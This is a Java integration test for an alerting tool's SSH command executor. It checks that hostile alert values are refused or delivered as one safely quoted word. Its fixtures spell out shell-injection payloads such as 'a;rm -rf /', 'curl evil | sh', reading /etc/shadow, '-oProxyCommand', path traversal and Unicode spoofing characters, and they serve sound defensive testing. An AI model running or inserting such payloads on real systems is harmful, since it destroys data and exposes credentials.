package io.alerthub.scenario.ssh;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.alerthub.config.HostConfig;
import java.nio.file.Path;
import java.security.KeyPair;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile alert fields against a real SSH server that records the exact command lines it receives: each value is
 * either refused before anything is sent, or arrives as one single-quoted word that the shell reads back unchanged.
 */
class SshCommandSafetyIT {
    /** A free-text parameter: the most permissive type, so hostile values get as far as they can. */
    static final CommandTemplate SEARCH = CommandTemplate.builder("search_log", "args -F -- {{text}} /var/log/syslog")
            .param("text", ParamType.text(1024)).build();
    static final CommandTemplate RESTART = CommandTemplate.builder("restart_unit", "args restart {{unit}}")
            .param("unit", ParamType.UNIT_NAME).build();
    static final CommandTemplate PING = CommandTemplate.builder("ping_host", "args -c 1 {{host}}")
            .param("host", ParamType.HOSTNAME).build();
    static final CommandTemplate DU = CommandTemplate.builder("disk_usage", "args -sh {{path}}")
            .param("path", ParamType.PATH).build();

    static final String TEN_KB = "A".repeat(10 * 1024);

    static FakeSshHost server;
    static SshExecutor executor;
    static HostConfig host;

    @BeforeAll
    static void start(@TempDir Path customers) throws Exception {
        KeyPair clientKey = FakeSshHost.generate("ssh-ed25519");
        server = new FakeSshHost(clientKey.getPublic());
        host = SshTestCustomer.host(customers, server.port(),
                FakeSshHost.publicKeyLine(server.hostKeys.get(0).getPublic()), clientKey);
        executor = new SshExecutor(SshProperties.defaults());
    }

    @AfterAll
    static void stop() throws Exception {
        executor.close();
        server.close();
    }

    @BeforeEach
    void forget() {
        server.received.clear();
    }

    static Stream<Arguments> acceptedAsOneQuotedWord() {
        return Stream.of(
                arguments("a;rm -rf /", "args -F -- 'a;rm -rf /' /var/log/syslog"),
                arguments("$(reboot)", "args -F -- '$(reboot)' /var/log/syslog"),
                arguments("`reboot`", "args -F -- '`reboot`' /var/log/syslog"),
                arguments("'", "args -F -- ''\\''' /var/log/syslog"),
                arguments("it's'; reboot; echo '", "args -F -- 'it'\\''s'\\''; reboot; echo '\\''' /var/log/syslog"),
                arguments("a && curl evil | sh", "args -F -- 'a && curl evil | sh' /var/log/syslog"),
                arguments("${IFS}cat${IFS}/etc/shadow", "args -F -- '${IFS}cat${IFS}/etc/shadow' /var/log/syslog"),
                arguments("\"; reboot; \"", "args -F -- '\"; reboot; \"' /var/log/syslog"),
                arguments("\\' ; reboot", "args -F -- '\\'\\'' ; reboot' /var/log/syslog"),
                arguments("*", "args -F -- '*' /var/log/syslog"),
                arguments("a；reboot", "args -F -- 'a；reboot' /var/log/syslog"),
                arguments("ディスク不足", "args -F -- 'ディスク不足' /var/log/syslog"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("acceptedAsOneQuotedWord")
    void aHostileTextValueReachesTheHostAsOneQuotedWord(String value, String expectedLine) throws Exception {
        SshResult result = executor.execute("acme", host, SEARCH.render(Map.of("text", value)));

        assertThat(server.received).containsExactly(expectedLine);
        assertThat(result.command()).isEqualTo(expectedLine);
        // the host splits the line into words as sh would: the value is exactly one word, unchanged
        assertThat(result.exitCode()).as(result.stderr()).isZero();
        assertThat(result.stdout()).isEqualTo("[-F]\n[--]\n[" + value + "]\n[/var/log/syslog]\n");
    }

    static Stream<Arguments> refused() {
        String text = "command \"search_log\": parameter \"text\": ";
        String unit = "command \"restart_unit\": parameter \"unit\": ";
        String hostname = "command \"ping_host\": parameter \"host\": ";
        String path = "command \"disk_usage\": parameter \"path\": ";
        String unitRule = " (valid: a systemd unit name of letters, digits and \":_.@-\", e.g. \"nginx.service\")";
        String hostRule = " (valid: a dns name or ipv4 address, e.g. \"web-1.example.com\")";
        String pathRule = " (valid: an absolute path of letters, digits and \"._@%+=:,~-\" without \".\" or \"..\" "
                + "segments, e.g. \"/var/log/app\")";
        return Stream.of(
                arguments(SEARCH, "text", "a\nreboot", text + "value \"a\\u000areboot\" contains a line break or NUL"),
                arguments(SEARCH, "text", "a\rreboot", text + "value \"a\\u000dreboot\" contains a line break or NUL"),
                arguments(SEARCH, "text", "a\0b", text + "value \"a\\u0000b\" contains a line break or NUL"),
                arguments(SEARCH, "text", TEN_KB, text + "value \"" + "A".repeat(64) + "…(10240 chars)\" is longer than "
                        + "1024 characters"),
                arguments(SEARCH, "text", "abc\u202Egnp.exe", text + "invalid value \"abc\\u202egnp.exe\" (valid: "
                        + "printable text without control or format characters, not starting with \"-\")"),
                arguments(SEARCH, "text", "zero\u200Bwidth", text + "invalid value \"zero\\u200bwidth\" (valid: "
                        + "printable text without control or format characters, not starting with \"-\")"),
                arguments(SEARCH, "text", "-f/etc/shadow", text + "invalid value \"-f/etc/shadow\" (valid: "
                        + "printable text without control or format characters, not starting with \"-\")"),
                arguments(SEARCH, "text", "", text + "value is empty (valid: printable text without control or format "
                        + "characters, not starting with \"-\")"),
                arguments(RESTART, "unit", "nginx;reboot", unit + "invalid value \"nginx;reboot\"" + unitRule),
                arguments(RESTART, "unit", "$(reboot)", unit + "invalid value \"$(reboot)\"" + unitRule),
                arguments(RESTART, "unit", "`reboot`", unit + "invalid value \"`reboot`\"" + unitRule),
                arguments(RESTART, "unit", "nginx'", unit + "invalid value \"nginx'\"" + unitRule),
                arguments(RESTART, "unit", "--now", unit + "invalid value \"--now\"" + unitRule),
                arguments(RESTART, "unit", "nginx\u202E", unit + "invalid value \"nginx\\u202e\"" + unitRule),
                arguments(RESTART, "unit", "nginx；reboot", unit + "invalid value \"nginx；reboot\"" + unitRule),
                arguments(PING, "host", "a;rm -rf /", hostname + "invalid value \"a;rm -rf /\"" + hostRule),
                arguments(PING, "host", "web-1 ; reboot", hostname + "invalid value \"web-1 ; reboot\"" + hostRule),
                arguments(PING, "host", "ｗｅｂ１", hostname + "invalid value \"ｗｅｂ１\"" + hostRule),
                arguments(PING, "host", "-oProxyCommand=reboot", hostname + "invalid value \"-oProxyCommand=reboot\""
                        + hostRule),
                arguments(DU, "path", "/var/log/../../etc", path + "invalid value \"/var/log/../../etc\"" + pathRule),
                arguments(DU, "path", "var/log", path + "invalid value \"var/log\"" + pathRule),
                arguments(DU, "path", "/var/log/*", path + "invalid value \"/var/log/*\"" + pathRule),
                arguments(DU, "path", "/tmp/$(reboot)", path + "invalid value \"/tmp/$(reboot)\"" + pathRule),
                arguments(DU, "path", "/tmp/a b", path + "invalid value \"/tmp/a b\"" + pathRule));
    }

    @ParameterizedTest(name = "{0} {2}")
    @MethodSource("refused")
    void aValueThatDoesNotFitItsTypeIsRefusedAndNothingIsSent(CommandTemplate template, String parameter, String value,
            String message) {
        assertThatThrownBy(() -> executor.execute("acme", host, template.render(Map.of(parameter, value))))
                .isInstanceOfSatisfying(CommandParameterException.class, e -> {
                    assertThat(e.getMessage()).isEqualTo(message);
                    assertThat(e.parameter()).isEqualTo(parameter);
                });
        assertThat(server.received).isEmpty();
    }

    @ParameterizedTest(name = "{1}")
    @MethodSource("validTypedValues")
    void aValidTypedValueArrivesQuoted(CommandTemplate template, String parameter, String value, String expectedLine)
            throws Exception {
        SshResult result = executor.execute("acme", host, template.render(Map.of(parameter, value)));

        assertThat(server.received).containsExactly(expectedLine);
        assertThat(result.exitCode()).isZero();
    }

    static Stream<Arguments> validTypedValues() {
        return Stream.of(
                arguments(RESTART, "unit", "nginx.service", "args restart 'nginx.service'"),
                arguments(RESTART, "unit", "getty@tty1.service", "args restart 'getty@tty1.service'"),
                arguments(PING, "host", "web-1.acme.example", "args -c 1 'web-1.acme.example'"),
                arguments(PING, "host", "10.0.0.5", "args -c 1 '10.0.0.5'"),
                arguments(DU, "path", "/var/log/app", "args -sh '/var/log/app'"),
                arguments(DU, "path", "/", "args -sh '/'"));
    }
}
